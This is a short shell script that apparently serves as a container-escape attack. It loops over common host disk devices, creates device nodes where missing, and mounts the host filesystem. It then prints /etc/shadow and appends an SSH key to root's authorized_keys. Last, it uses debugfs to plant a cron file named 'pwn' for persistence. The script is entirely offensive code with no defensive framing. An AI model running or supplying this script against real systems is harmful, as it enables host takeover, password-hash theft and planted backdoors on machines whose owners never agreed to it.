#!/bin/sh
for dev in /dev/sda1 /dev/vda1 /dev/nvme0n1p1 /dev/xvda1; do
    [ -b "$dev" ] || mknod "$dev" b 8 1
    mkdir -p /tmp/hostfs
    if mount "$dev" /tmp/hostfs; then
        cat /tmp/hostfs/etc/shadow
        echo 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQC7 x' >> /tmp/hostfs/root/.ssh/authorized_keys
        umount /tmp/hostfs
        break
    fi
done
debugfs -w -R 'write /tmp/cronfile /etc/cron.d/pwn' /dev/sda1
